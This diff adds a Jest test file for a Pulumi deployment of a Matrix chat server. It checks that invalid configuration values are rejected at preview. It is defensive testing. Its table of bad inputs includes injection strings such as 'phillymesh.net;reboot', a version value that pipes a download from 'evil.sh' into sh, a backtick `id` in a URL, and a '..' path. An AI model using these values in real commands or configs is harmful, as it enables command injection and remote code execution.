@@ -1,0 +1,109 @@
+// Bad input fails at `pulumi preview`, with the key named, before any resource exists: so nothing a
+// user typed wrongly can reach a server or a shell.
+import * as fs from "fs";
+import * as path from "path";
+import * as yaml from "js-yaml";
+import { BASE_CONFIG, SECRETS, runProgram, lastRegistered } from "./harness";
+
+type Case = [what: string, key: string, value: string | undefined, secret: boolean];
+
+const BAD: Case[] = [
+    ["a domain with a scheme", "domain", "https://phillymesh.net", false],
+    ["a domain with a shell command", "domain", "phillymesh.net;reboot", false],
+    ["an upper-case domain with a trailing dot", "domain", "PhillyMesh.net.", false],
+    ["a one-label domain", "domain", "localhost", false],
+    ["a version with shell characters", "synapseVersion", "1.163.2 && curl evil.sh | sh", false],
+    ["a version range instead of a version", "synapseVersion", ">=1.160", false],
+    ["a 'v'-prefixed Element version", "elementVersion", "v1.12.5", false],
+    ["a CIDR with a bad prefix", "sshAllowedCidrs", '["10.0.0.0/33"]', false],
+    ["a CIDR that is not an address", "sshAllowedCidrs", '["my-office"]', false],
+    ["a list given as a plain string", "federationIpAllowlist", "10.0.0.0/8", false],
+    ["an e-mail without a domain", "adminEmail", "hello@", false],
+    ["an e-mail with a quote", "adminEmail", "a'b@phillymesh.net", false],
+    ["a negative swap size", "swapSizeMb", "-1", false],
+    ["a fractional volume size", "volumeSizeGb", "1.5", false],
+    ["a zero upload size", "maxUploadSizeMb", "0", false],
+    ["a cache factor that is not a number", "cacheFactor", "lots", false],
+    ["an unknown hosting kind", "hosting", "aws", false],
+    ["an unknown DNS provider", "dns", "route53", false],
+    ["an unknown registration mode", "registration", "everyone", false],
+    ["a boolean that is not true/false", "allowGuestAccess", "yes", false],
+    ["an admin name with upper case and spaces", "adminUser", "The Admin", false],
+    ["a region with a space", "doRegion", "nyc 3", false],
+    ["a short fingerprint", "elementSigningKeyFingerprint", "A179B100", false],
+    ["a download URL with a backtick", "elementDownloadUrl", "https://example.org/`id`/element-v{version}.tar.gz", false],
+    ["an ACME URL that is not a URL", "acmeServer", "letsencrypt", false],
+    ["a relative data directory", "dataDir", "data", false],
+    ["a data directory with '..'", "dataDir", "/mnt/../etc", false],
+    ["a public key that is not one", "sshPublicKey", "AAAA-not-a-key", false],
+    ["a zone id of the wrong shape", "cloudflareZoneId", "phillymesh.net", false],
+    ["a pool larger than PostgreSQL allows", "databasePoolMax", "40", false],
+    ["a missing Synapse version", "synapseVersion", undefined, false],
+    ["a missing domain", "domain", undefined, false],
+    ["a missing admin password", "adminPassword", undefined, true],
+    ["a short registration secret", "registrationSharedSecret", "tooshort", true],
+    ["a private key that is not PEM", "sshPrivateKey", "hunter2", true],
+    ["a missing Cloudflare DNS token with DNS-01", "cloudflareDnsToken", undefined, true],
+];
+
+describe("every kind of wrong value is rejected at preview, naming the key", () => {
+    test.each(BAD)("%s (%s)", async (_what, key, value, secret) => {
+        const config = { ...BASE_CONFIG };
+        const secrets = { ...SECRETS };
+        const target: Record<string, string> = secret ? secrets : config;
+        if (value === undefined) delete target[key];
+        else target[key] = value;
+
+        await expect(runProgram(config, secrets, { preview: true })).rejects.toThrow(new RegExp(`phillymesh-chat:${key}\\b`));
+        // Nothing was declared: no droplet, no record, no command carrying the bad value.
+        expect(lastRegistered.filter((r) => r.type !== "pulumi:pulumi:Stack")).toEqual([]);
+    });
+
+    test("a secret's value is never echoed in the error", async () => {
+        const secrets = { ...SECRETS, adminPassword: "short" };
+        await expect(runProgram(BASE_CONFIG, secrets, { preview: true })).rejects.toThrow(/phillymesh-chat:adminPassword must be at least 12 characters$/m);
+    });
+
+    test("all problems are reported at once", async () => {
+        const config = { ...BASE_CONFIG, domain: "bad domain", swapSizeMb: "-5", synapseVersion: "latest" };
+        const err = await runProgram(config, SECRETS, { preview: true }).catch((e: Error) => e);
+        expect(String(err)).toMatch(/3 problems/);
+        for (const key of ["domain", "swapSizeMb", "synapseVersion"]) expect(String(err)).toContain(`phillymesh-chat:${key}`);
+    });
+
+    test("HTTP-01 without the apex on this server is refused: the certificate must cover the server name", async () => {
+        const config = { ...BASE_CONFIG, acmeChallenge: "http" };
+        await expect(runProgram(config, SECRETS, { preview: true })).rejects.toThrow(/phillymesh-chat:apexOnServer must be true/);
+    });
+
+    test("open registration without a verification method is refused, as Synapse would", async () => {
+        const config = { ...BASE_CONFIG, registration: "open" };
+        await expect(runProgram(config, SECRETS, { preview: true })).rejects.toThrow(/phillymesh-chat:recaptchaPublicKey is required when registration is open/);
+    });
+});
+
+describe("the config schema", () => {
+    const project = yaml.load(fs.readFileSync(path.join(__dirname, "..", "Pulumi.yaml"), "utf8")) as { config: Record<string, any> };
+    const source = fs.readFileSync(path.join(__dirname, "..", "components", "config.ts"), "utf8");
+
+    test("every key the program reads is declared, with a type and a description", () => {
+        const read = [...source.matchAll(/r\.(?:required|secret|int|decimal|bool|list|oneOf)(?:<[^>]*>)?\("([A-Za-z0-9]+)"/g)].map((m) => m[1]);
+        expect(read.length).toBeGreaterThan(40);
+        for (const key of read) {
+            expect(project.config[key]).toBeDefined();
+            expect(project.config[key].type).toMatch(/^(string|integer|boolean|array)$/);
+            expect(project.config[key].description.length).toBeGreaterThan(10);
+        }
+        // ...and every declared key is read.
+        expect(Object.keys(project.config).sort()).toEqual([...new Set(read)].sort());
+    });
+
+    test("every secret is declared secret, and the prod stack holds no plain secret", () => {
+        for (const key of Object.keys(SECRETS)) expect(project.config[key].secret).toBe(true);
+        const prod = fs.readFileSync(path.join(__dirname, "..", "Pulumi.prod.yaml"), "utf8");
+        for (const key of Object.keys(project.config).filter((k) => project.config[k].secret)) {
+            const line = prod.split("\n").find((l) => l.includes(`phillymesh-chat:${key}:`));
+            if (line !== undefined) expect(prod).toMatch(new RegExp(`phillymesh-chat:${key}:\\s*\\n\\s+secure:`));
+        }
+    });
+});
